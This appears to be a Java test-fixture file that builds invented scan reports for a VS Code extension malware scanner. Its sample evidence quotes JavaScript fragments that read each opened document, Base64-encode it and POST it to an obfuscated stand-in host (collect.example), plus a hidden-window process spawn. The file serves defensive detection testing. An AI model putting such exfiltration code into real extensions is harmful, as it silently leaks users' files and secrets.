package dev.vsxray.reports;

import dev.vsxray.reports.fleet.Fleet;
import dev.vsxray.scanner.model.Answer;
import dev.vsxray.scanner.model.AppliedDecision;
import dev.vsxray.scanner.model.AuditAnswer;
import dev.vsxray.scanner.model.AuditQuestion;
import dev.vsxray.scanner.model.Capability;
import dev.vsxray.scanner.model.Coverage;
import dev.vsxray.scanner.model.Decision;
import dev.vsxray.scanner.model.Decoding;
import dev.vsxray.scanner.model.Evidence;
import dev.vsxray.scanner.model.Evidence.Role;
import dev.vsxray.scanner.model.ExtensionId;
import dev.vsxray.scanner.model.ExtensionReport;
import dev.vsxray.scanner.model.Feature.DependencyKind;
import dev.vsxray.scanner.model.Finding;
import dev.vsxray.scanner.model.Gap;
import dev.vsxray.scanner.model.Location;
import dev.vsxray.scanner.model.PackageDependency;
import dev.vsxray.scanner.model.Place;
import dev.vsxray.scanner.model.Place.InstallSource;
import dev.vsxray.scanner.model.Place.State;
import dev.vsxray.scanner.model.PrivacyCard;
import dev.vsxray.scanner.model.Registry;
import dev.vsxray.scanner.model.RuleText;
import dev.vsxray.scanner.model.ScanError;
import dev.vsxray.scanner.model.ScanInfo;
import dev.vsxray.scanner.model.ScanReport;
import dev.vsxray.scanner.model.ScorePart;
import dev.vsxray.scanner.model.SuppressedFinding;
import dev.vsxray.scanner.model.ToolInfo;
import dev.vsxray.scanner.model.Verdict;
import dev.vsxray.signatures.rule.Confidence;
import dev.vsxray.signatures.rule.Severity;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;

/** Reports to write in tests. All of it is invented; hosts end in {@code .example}. */
public final class SampleReports {

    public static final ToolInfo TOOL = new ToolInfo(
            "vsxray",
            "0.1.0",
            new ToolInfo.Rules(212, "sha256:" + "1a".repeat(32)),
            new ToolInfo.Intelligence(Optional.of(LocalDate.of(2026, 8, 22)), "sha256:" + "2b".repeat(32)));

    public static final ScanInfo SCAN = new ScanInfo(
            Instant.parse("2026-11-23T02:00:07Z"),
            Duration.ofMillis(221_400),
            "build-7",
            false,
            List.of("/home/ada/.vscode/extensions"),
            new TreeMap<>(Map.of("archive-entries", "50000 entries", "file-bytes", "67108864 bytes")));

    public static final RuleText DOCUMENT_LEAVES = new RuleText(
            "opened-document-leaves-encoded",
            "Sends every opened document to a remote host, Base64-encoded",
            Severity.CRITICAL,
            "When a file is opened in the editor, its whole text is encoded and sent away. Nobody asks the user.",
            "AI assistants send the open file too, after a command and to a documented service.",
            "Look at the host at the end of the flow. Ask what was open while the extension was enabled.",
            "Remove the extension and rotate every secret that stood in an opened file.",
            List.of("T1005", "T1132.001", "T1041"),
            List.of("https://vsxray.example/rules/opened-document-leaves-encoded"));

    public static final RuleText HIDDEN_WINDOW = new RuleText(
            "process-hidden-window",
            "Starts a program in a hidden window",
            Severity.MEDIUM,
            "A program is started so that the user sees no window.",
            "Language servers and formatters start helpers this way.",
            "See which program it is and where it comes from.",
            "Ask the publisher what the program does.",
            List.of("T1564.003"),
            List.of());

    public static final RuleText STARTS_ALWAYS = new RuleText(
            "activates-at-startup",
            "Runs at every start of the editor",
            Severity.INFO,
            "The extension asks to be loaded whenever the editor starts.",
            "Many extensions do, for status bars and file watchers.",
            "Nothing by itself.",
            "",
            List.of(),
            List.of());

    /** A finding of {@code quiet()} that the team has looked at. */
    public static final Decision SUPPRESSION = new Decision(
            Decision.Kind.SUPPRESS,
            new Decision.Scope("", "", "", HIDDEN_WINDOW.id(), "suppressed-1"),
            "grace@team.example",
            "The language server is started without a window on purpose.",
            Optional.of(LocalDate.of(2027, 1, 31)),
            "vsxray-decisions.yaml:3");

    public static final Decision OLD_ALLOWANCE = new Decision(
            Decision.Kind.ALLOW,
            new Decision.Scope("acme.notes", "1.x", "", "", ""),
            "ada@team.example",
            "Needed until the migration is done.",
            Optional.of(LocalDate.of(2026, 9, 30)),
            "vsxray-decisions.yaml:9");

    private SampleReports() {}

    /** A machine with one extension of every verdict and coverage. */
    public static ScanReport ordinary() {
        return new ScanReport(
                TOOL,
                SCAN,
                List.of(DOCUMENT_LEAVES, HIDDEN_WINDOW, STARTS_ALWAYS),
                List.of(
                        malicious(),
                        suspicious(),
                        risky(),
                        partial(),
                        notAnalysed(),
                        quiet().withFindings(
                                        quiet().findings(),
                                        List.of(new SuppressedFinding(hiddenWindow("suppressed-1"), SUPPRESSION)))),
                List.of(new ScanError("This folder could not be read.", "/home/ada/.cursor/extensions")),
                List.of(
                        new AppliedDecision(SUPPRESSION, AppliedDecision.State.IN_FORCE, 1),
                        new AppliedDecision(OLD_ALLOWANCE, AppliedDecision.State.EXPIRED, 0)));
    }

    /** A machine without any extension. */
    public static ScanReport empty() {
        return new ScanReport(TOOL, SCAN, List.of(), List.of(), List.of());
    }

    /** {@code count} extensions with more than three findings each, every third of them a flow. */
    public static ScanReport large(int count) {
        List<ExtensionReport> extensions = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            Verdict verdict = i % 50 == 0 ? Verdict.SUSPICIOUS : i % 3 == 0 ? Verdict.RISKY : Verdict.NO_FINDINGS;
            List<Finding> findings = new ArrayList<>();
            for (int f = 0; f < 3 + i % 2; f++) {
                findings.add(
                        f == 0 ? documentLeaves("f" + i, "dist/part" + f + ".js") : hiddenWindow("g" + i + "-" + f));
            }
            extensions.add(
                    extension("publisher" + i % 97 + ".extension" + i, "1." + i + ".0", verdict, i % 101, findings));
        }
        return new ScanReport(
                TOOL, SCAN, List.of(DOCUMENT_LEAVES, HIDDEN_WINDOW, STARTS_ALWAYS), extensions, List.of());
    }

    /** Three nights of two machines; on the last, the second machine has something that it had not. */
    public static Fleet fleet() {
        Fleet fleet = new Fleet();
        for (int day = 0; day < 3; day++) {
            fleet.add(onMachine("ws-1", day, List.of(quiet(), risky())));
            fleet.add(onMachine("ws-2", day, day < 2 ? List.of(quiet()) : List.of(malicious(), quiet())));
        }
        return fleet;
    }

    private static ScanReport onMachine(String host, int day, List<ExtensionReport> extensions) {
        return new ScanReport(
                TOOL,
                new ScanInfo(
                        SCAN.startedAt().plus(Duration.ofDays(day)),
                        SCAN.duration(),
                        host,
                        false,
                        List.of(),
                        SCAN.limits()),
                List.of(DOCUMENT_LEAVES, HIDDEN_WINDOW, STARTS_ALWAYS),
                extensions,
                List.of());
    }

    /** {@code count} extensions whose cards are as full as those of real ones. */
    public static ScanReport rich(int count) {
        List<ExtensionReport> extensions = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            ExtensionReport full = malicious();
            extensions.add(new ExtensionReport(
                    new ExtensionId("publisher" + i % 97, "extension" + i),
                    "1." + i + ".0",
                    "",
                    full.displayName(),
                    full.places(),
                    String.format("%064x", i + 1),
                    i % 4 == 0 ? Verdict.RISKY : Verdict.NO_FINDINGS,
                    i % 4 == 0 ? 10 : 0,
                    full.scoreParts(),
                    full.coverage(),
                    full.capabilities(),
                    full.hosts(),
                    full.audit(),
                    full.privacy(),
                    full.dependencies(),
                    i % 4 == 0 ? full.findings() : List.of()));
        }
        return new ScanReport(
                TOOL, SCAN, List.of(DOCUMENT_LEAVES, HIDDEN_WINDOW, STARTS_ALWAYS), extensions, List.of());
    }

    public static ExtensionReport malicious() {
        return new ExtensionReport(
                new ExtensionId("acme-labs", "theme-helper"),
                "2.4.1",
                "",
                "Theme Helper",
                List.of(
                        installed(
                                "/home/ada/.vscode/extensions/acme-labs.theme-helper-2.4.1", "VS Code", State.ENABLED),
                        installed(
                                "/home/ada/.cursor/extensions/acme-labs.theme-helper-2.4.1", "Cursor", State.DISABLED)),
                "3c".repeat(32),
                Verdict.MALICIOUS,
                95,
                List.of(
                        new ScorePart("opened-document-leaves-encoded", 80),
                        new ScorePart("process-hidden-window", 15)),
                Coverage.of(List.of()),
                List.of(
                        new Capability(
                                "network",
                                "Sends requests to hosts named in the code.",
                                List.of("collect.example"),
                                List.of(sink())),
                        new Capability("editor-contents", "Reads open documents.", List.of(), List.of(source()))),
                List.of("collect.example", "cdn.example"),
                Map.of(
                        AuditQuestion.USES_NETWORK,
                        AuditAnswer.of(Answer.YES, "The code sends requests to 2 hosts."),
                        AuditQuestion.SOURCE_AVAILABLE,
                        new AuditAnswer(
                                Answer.UNKNOWN,
                                "The manifest names a repository; it was not asked.",
                                "https://git.example/acme/theme-helper",
                                List.of())),
                new PrivacyCard(
                        List.of("Application Insights"),
                        List.of("telemetry.example"),
                        AuditAnswer.of(Answer.NO, "Sending does not depend on the telemetry setting."),
                        List.of(),
                        List.of("http://127.0.0.1:11434"),
                        List.of("models.example"),
                        AuditAnswer.of(Answer.YES, "When the local model fails, the code asks a host elsewhere."),
                        List.of()),
                List.of(
                        new PackageDependency(DependencyKind.BUNDLED, "axios", "1.7.2", "pkg:npm/axios@1.7.2"),
                        new PackageDependency(
                                DependencyKind.EXTENSION_PACK,
                                "acme-labs.icons",
                                "",
                                "pkg:vscode-extension/acme-labs/icons")),
                List.of(documentLeaves("9f3a77", "dist/extension.js"), hiddenWindow("41c0de"), startsAlways("77aa01")));
    }

    public static ExtensionReport suspicious() {
        return extension(
                "lantern.git-lens-pro",
                "0.3.0",
                Verdict.SUSPICIOUS,
                62,
                List.of(documentLeaves("5d2e90", "out/main.js")));
    }

    /** Ten steps, of which the middle is folded; the link to step {@code assumed} is assumed, and one counts from 0. */
    public static ExtensionReport longFlow(int assumed) {
        List<Evidence> steps = new ArrayList<>();
        for (int i = 0; i < 10; i++) {
            steps.add(new Evidence(
                    i == 0 ? Role.SOURCE : i == 9 ? Role.SINK : Role.STEP,
                    new Location("out/main.js", i * 100, i + 1, 1),
                    "Step " + i + ".",
                    "step" + i + "(x)",
                    List.of(),
                    i == assumed));
        }
        Finding finding = new Finding(
                DOCUMENT_LEAVES.id(),
                DOCUMENT_LEAVES.title(),
                Severity.CRITICAL,
                Confidence.HIGH,
                DOCUMENT_LEAVES.attack(),
                "0dd0ed",
                steps);
        return extension("slow.river", "1.2.3", Verdict.SUSPICIOUS, 62, List.of(finding));
    }

    public static ExtensionReport risky() {
        return extension(
                "weather.formatter",
                "11.0.2",
                Verdict.RISKY,
                15,
                List.of(hiddenWindow("b1b2b3"), startsAlways("c4c5c6")));
    }

    public static ExtensionReport quiet() {
        return extension("honest.colours", "1.0.0", Verdict.NO_FINDINGS, 0, List.of());
    }

    static ExtensionReport partial() {
        ExtensionReport read = extension("big.bundle", "5.1.0", Verdict.NO_FINDINGS, 0, List.of());
        return withCoverage(
                read,
                read.verdict(),
                Coverage.of(List.of(
                        new Gap(
                                "dist/big.js",
                                Gap.Kind.LIMIT,
                                "The file is larger than what is read.",
                                "67108864 bytes"),
                        new Gap("dist/odd.js", Gap.Kind.SYNTAX, "Statement at 14:3 could not be read.", ""))));
    }

    static ExtensionReport notAnalysed() {
        ExtensionReport read = extension("torn.archive", "", Verdict.UNKNOWN, 0, List.of());
        return withCoverage(
                read,
                Verdict.UNKNOWN,
                Coverage.notAnalysed(
                        new Gap("", Gap.Kind.UNREADABLE, "The archive ends in the middle of an entry.", "")));
    }

    /** An extension with these findings and nothing else of note. */
    public static ExtensionReport extension(
            String id, String version, Verdict verdict, int score, List<Finding> findings) {
        int dot = id.indexOf('.');
        return new ExtensionReport(
                new ExtensionId(id.substring(0, dot), id.substring(dot + 1)),
                version,
                "linux-x64",
                id.substring(dot + 1),
                List.of(installed("/home/ada/.vscode/extensions/" + id + "-" + version, "VS Code", State.ENABLED)),
                String.format("%064x", id.hashCode() & 0xffffffffL),
                verdict,
                score,
                List.of(),
                Coverage.of(List.of()),
                List.of(),
                List.of(),
                Map.of(),
                PrivacyCard.unknown("Not looked at."),
                List.of(),
                findings);
    }

    public static ExtensionReport withCoverage(ExtensionReport extension, Verdict verdict, Coverage coverage) {
        return new ExtensionReport(
                extension.id(),
                extension.version(),
                extension.targetPlatform(),
                extension.displayName(),
                extension.places(),
                extension.sha256(),
                verdict,
                extension.score(),
                extension.scoreParts(),
                coverage,
                extension.capabilities(),
                extension.hosts(),
                extension.audit(),
                extension.privacy(),
                extension.dependencies(),
                extension.findings());
    }

    static Place installed(String path, String editor, State state) {
        return new Place(path, editor, "", "", InstallSource.GALLERY, Registry.VSCODE_MARKETPLACE, state);
    }

    static Finding documentLeaves(String fingerprint, String file) {
        return new Finding(
                DOCUMENT_LEAVES.id(),
                DOCUMENT_LEAVES.title(),
                Severity.CRITICAL,
                Confidence.HIGH,
                DOCUMENT_LEAVES.attack(),
                fingerprint,
                List.of(in(file, source()), in(file, step()), in(file, sink())));
    }

    static Finding hiddenWindow(String fingerprint) {
        return new Finding(
                HIDDEN_WINDOW.id(),
                HIDDEN_WINDOW.title(),
                Severity.MEDIUM,
                Confidence.MEDIUM,
                HIDDEN_WINDOW.attack(),
                fingerprint,
                List.of(Evidence.match(
                        new Location("dist/extension.js", 88_013, 1, 88_014),
                        "A process is started with its window hidden.",
                        "spawn(p,[\"--serve\"],{windowsHide:!0,detached:!0})")));
    }

    static Finding startsAlways(String fingerprint) {
        return new Finding(
                STARTS_ALWAYS.id(),
                STARTS_ALWAYS.title(),
                Severity.INFO,
                Confidence.HIGH,
                List.of(),
                fingerprint,
                List.of(Evidence.match(
                        new Location("package.json", 412, 18, 5),
                        "Activation event.",
                        "\"activationEvents\": [\"*\"]")));
    }

    private static Evidence source() {
        return new Evidence(
                Role.SOURCE,
                new Location("dist/extension.js", 1_204_551, 1, 1_204_552),
                "The text of a document that was opened.",
                "e.workspace.onDidOpenTextDocument((d=>{const t=d.getText();q(t)}))",
                List.of(),
                false);
    }

    private static Evidence step() {
        return new Evidence(
                Role.STEP,
                new Location("dist/extension.js", 1_204_610, 1, 1_204_611),
                "It is encoded as Base64.",
                "const q=t=>s(Buffer.from(t).toString(\"base64\"))",
                List.of(),
                true);
    }

    private static Evidence sink() {
        return new Evidence(
                Role.SINK,
                new Location("dist/extension.js", 1_205_002, 1, 1_205_003),
                "It is sent to a host that is decoded at run time.",
                "h.request(atob(\"aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUvdQ==\"),{method:\"POST\"}).end(b)",
                List.of(new Decoding("base64", "https://collect.example/u")),
                false,
                Optional.of("poster@2.1.0"));
    }

    private static Evidence in(String file, Evidence evidence) {
        Location location = evidence.location();
        return new Evidence(
                evidence.role(),
                new Location(file, location.offset(), location.line(), location.column()),
                evidence.note(),
                evidence.excerpt(),
                evidence.decoded(),
                evidence.assumed(),
                evidence.module());
    }
}
